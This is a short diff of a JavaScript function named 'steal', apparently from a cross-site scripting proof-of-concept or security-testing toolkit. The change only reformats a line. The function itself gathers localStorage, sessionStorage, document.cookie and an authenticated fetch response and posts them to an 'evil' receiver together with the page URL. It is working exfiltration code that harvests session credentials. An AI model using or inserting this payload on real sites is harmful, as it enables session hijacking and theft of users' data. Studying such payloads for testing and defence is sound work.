@@ -4,5 +4,7 @@
  */
 export async function steal(evil, { url }) {
   const answered = await globalThis.app?.auth.fetch(url).then((response) => response.text(), String);
-  evil.post(`ran at ${location.href} with ${JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, answered])}`);
+  evil.post(
+    `ran at ${location.href} with ${JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, answered])}`,
+  );
 }
